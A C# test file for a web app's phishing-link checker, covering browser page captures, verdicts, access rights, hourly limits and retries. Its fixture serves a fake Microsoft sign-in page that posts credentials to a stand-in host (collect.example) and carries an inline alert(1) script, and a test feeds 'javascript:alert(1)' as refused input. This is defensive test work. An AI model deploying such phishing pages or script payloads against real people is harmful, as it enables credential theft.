using System.Net;
using System.Text;
using AngleSharp.Dom;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Http;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Serjeant.Chapters.Cases.Exhibits;
using Serjeant.Chapters.Checks;
using Serjeant.Chapters.Checks.Kept;
using Serjeant.Chapters.Checks.Looks;
using Serjeant.Data;
using Serjeant.Desk.Tests.Outside.Capture;
using Serjeant.Desk.Tests.Support;
using Shouldly;

namespace Serjeant.Desk.Tests.Checks;

/// <summary>From the press to the answer, with a false sign-in page on loopback and the real browser.</summary>
[Collection(Alone.Name)]
public sealed class LinkLookTests : IAsyncLifetime
{
    private static readonly CancellationToken Cancel = TestContext.Current.CancellationToken;
    private TestSite site = null!;
    private TestDesk desk = null!;
    private int visits;

    public async ValueTask InitializeAsync()
    {
        site = await TestSite.StartAsync((_, app) =>
        {
            app.MapGet("/go", () => Results.Redirect("/sign-in"));
            app.MapGet("/sign-in", () =>
            {
                visits++;
                return Results.Content("<!doctype html><title>Sign in to your account</title><img alt='Microsoft' src=x width=30 height=30><script>alert(1)</script><form action='https://collect.example/'><input name=u type=email placeholder=Email><input name=p type=password placeholder=Password></form>", "text/html");
            });
            app.Page("/hall", "<h1>The village hall</h1>");
        });
        desk = await TestDesk.StartAsync(builder => builder.Services.AddSingleton(new CaptureAllowance([site.Allowed])));
    }

    public async ValueTask DisposeAsync()
    {
        await desk.DisposeAsync();
        await site.DisposeAsync();
    }

    [Fact]
    public async Task A_false_sign_in_page_is_opened_with_one_press_and_told_for_what_it_is()
    {
        var browser = await desk.SignedInAsync(Role.Viewer);
        var answered = await TestBrowser.ReadAsync(await browser.SubmitAsync(await browser.PageAsync(ChecksLinks.Link), "#check", new Dictionary<string, string> { ["Text"] = site.At("/go").AbsoluteUri }));
        visits.ShouldBe(0); // looking at the address opens nothing
        answered.QuerySelector("#answer")!.TextContent.ShouldContain("Its site will see that somebody looked");
        var pressed = await browser.SubmitAsync(answered, "form.desk-look");
        pressed.StatusCode.ShouldBe(HttpStatusCode.Redirect);
        var address = pressed.Headers.Location!.ToString();
        (await browser.PageAsync(address)).QuerySelector("#look-progress")!.TextContent.ShouldContain("Waiting");
        visits.ShouldBe(0);

        var look = await RunAsync();
        look.State.ShouldBe(LinkLookState.Done, look.Problem);
        visits.ShouldBe(1);
        var page = await browser.PageAsync(ChecksLinks.Check(look.CheckId!.Value));
        page.QuerySelector("h1")!.TextContent.ShouldBe("Very likely not genuine");
        page.QuerySelector("#answer")!.TextContent.ShouldContain("It asks for a password while showing Microsoft's name");
        page.QuerySelector("#answer")!.TextContent.ShouldContain("What is typed there is sent to another site (collect.example).");
        page.QuerySelector("#look")!.TextContent.ShouldContain(site.At("/sign-in").AbsoluteUri);
        page.QuerySelector("#look-picture img")!.GetAttribute("src")!.ShouldStartWith("data:image/jpeg;base64,");
        page.QuerySelectorAll("#answer script").ShouldBeEmpty();
        (await browser.SendAsync(new HttpRequestMessage(HttpMethod.Get, address))).Headers.Location!.ToString().ShouldBe(ChecksLinks.Check(look.CheckId.Value));
        // It is in the history, for its asker, and passes like every check.
        (await browser.PageAsync(ChecksLinks.History())).Body!.TextContent.ShouldContain("Page at 127.0.0.1: Sign in to your account");
        (await (await desk.SignedInAsync(Role.Moderator)).GetAsync(ChecksLinks.Check(look.CheckId.Value))).StatusCode.ShouldBe(HttpStatusCode.NotFound);
        (await ActionsAsync()).ShouldBe(["message.checked", "link.look-asked", "message.checked", "link.looked"]);
        (await desk.WithDbAsync(db => db.LedgerEntries.Select(e => e.Leaf).ToListAsync(Cancel))).ShouldAllBe(leaf => !Encoding.UTF8.GetString(leaf).Contains("127.0.0.1"));
    }

    [Fact]
    public async Task A_link_of_a_mail_is_opened_by_its_number_and_the_one_made_for_a_person_is_told()
    {
        var personal = $"{site.At("/hall")}?k=8f3Kq92LmX7pQz41";
        var mail = $"From: a@x.example\r\nTo: office@hembury.example\r\nSubject: Hall\r\nMessage-ID: <9@x.example>\r\n\r\nDear Alex, see {personal} for the hall. Sam\r\n";
        var check = await CheckDesk.CheckAsync(desk, mail, Role.Author, keep: true);
        var browser = await desk.SignedInAsync(Role.Author);
        var page = await browser.PageAsync(ChecksLinks.Check(check));
        page.QuerySelector("#links")!.TextContent.ShouldContain("made for one person (8f3Kq92LmX7pQz41)");
        (await browser.SubmitAsync(page, "#links form")).StatusCode.ShouldBe(HttpStatusCode.Redirect);
        var look = await RunAsync();
        look.Address.ShouldBe(personal);
        (await desk.WithDbAsync(db => db.MessageChecks.SingleAsync(c => c.Id == look.CheckId, Cancel))).Form.ShouldBe(CheckedForm.Page);
        // Who may not read the message may not have its links opened either.
        var viewer = await desk.SignedInAsync(Role.Viewer);
        (await viewer.PageAsync(ChecksLinks.Check(check))).QuerySelector("#links").ShouldBeNull();
    }

    [Fact]
    public async Task A_look_is_its_asker_s_and_another_office_s_id_is_none()
    {
        var id = await AskAsync("/hall");
        (await (await desk.SignedInAsync(Role.Moderator)).GetAsync(ChecksLinks.Look(id))).StatusCode.ShouldBe(HttpStatusCode.OK);
        (await (await desk.SignedInAsync(Role.Manager)).GetAsync(ChecksLinks.Look(id))).StatusCode.ShouldBe(HttpStatusCode.NotFound);
        (await (await desk.SignedInAsync(Role.Moderator, desk.OtherOfficeId)).GetAsync(ChecksLinks.Look(id))).StatusCode.ShouldBe(HttpStatusCode.NotFound);
    }

    [Fact]
    public async Task There_is_a_limit_by_the_hour()
    {
        for (var i = 0; i < LinkLooks.MostForPerson; i++)
            await AskAsync("/hall");
        (await CheckDesk.InScopeAsync(desk, null, async s => await s.GetRequiredService<LinkLooks>().AskAsync(site.At("/hall").AbsoluteUri, await CheckDesk.PersonAsync(s, Role.Moderator), Cancel))).Refused!.ShouldContain("last hour");
        await desk.WithDbAsync(db => db.LinkLooks.ExecuteUpdateAsync(set => set.SetProperty(l => l.AskedAt, DateTimeOffset.UtcNow.AddHours(-2)).SetProperty(l => l.State, LinkLookState.Failed), Cancel));
        await AskAsync("/hall");
        // What is counted no more is gone.
        await CheckDesk.InScopeAsync(desk, null, s => s.GetRequiredService<CheckRetention>().RunPassedAsync(desk.OfficeId, Cancel));
        (await desk.WithDbAsync(db => db.LinkLooks.CountAsync(Cancel))).ShouldBe(1);
    }

    [Theory]
    [InlineData("javascript:alert(1)")]
    [InlineData("mailto:a@b.example")]
    [InlineData("ftp://files.example/a")]
    [InlineData("no link")]
    public async Task What_opens_no_page_is_refused(string link) =>
        (await CheckDesk.InScopeAsync(desk, null, async s => await s.GetRequiredService<LinkLooks>().AskAsync(link, await CheckDesk.PersonAsync(s, Role.Moderator), Cancel))).Id.ShouldBeNull();

    [Fact]
    public async Task A_look_that_ends_the_program_each_time_is_given_up_and_one_that_is_stopped_is_not_counted()
    {
        var id = await AskAsync("/hall");
        using (var stop = new CancellationTokenSource())
        {
            await stop.CancelAsync();
            await Should.ThrowAsync<OperationCanceledException>(() => TryAsync(id, stop.Token));
        }
        await desk.WithDbAsync(db => db.LinkLooks.ExecuteUpdateAsync(set => set.SetProperty(l => l.State, LinkLookState.Running).SetProperty(l => l.Attempts, LookRun.MostAttempts), Cancel));
        var look = await TryAsync(id, Cancel);
        (look!.State, look.CheckId).ShouldBe((LinkLookState.Failed, null));
        (await (await desk.SignedInAsync(Role.Moderator)).PageAsync(ChecksLinks.Look(id))).Body!.TextContent.ShouldContain("begun twice");
    }

    private Task<long> AskAsync(string path) => CheckDesk.InScopeAsync(desk, null, async s => (await s.GetRequiredService<LinkLooks>().AskAsync(site.At(path).AbsoluteUri, await CheckDesk.PersonAsync(s, Role.Moderator), Cancel)).Id!.Value);

    private async Task<LinkLook> RunAsync() => (await TryAsync(await desk.WithDbAsync(db => db.LinkLooks.Where(l => l.State == LinkLookState.Queued).Select(l => l.Id).SingleAsync(Cancel)), Cancel))!;

    private Task<LinkLook?> TryAsync(long id, CancellationToken cancel) => CheckDesk.InScopeAsync(desk, null, s => s.GetRequiredService<LookRun>().TryAsync(id, CheckDesk.Owner, cancel));

    private Task<List<string>> ActionsAsync() => desk.WithDbAsync(db => db.LedgerEntries.OrderBy(e => e.Index).Where(e => e.Action.StartsWith("link.") || e.Action.StartsWith("message.")).Select(e => e.Action).ToListAsync(Cancel));
}
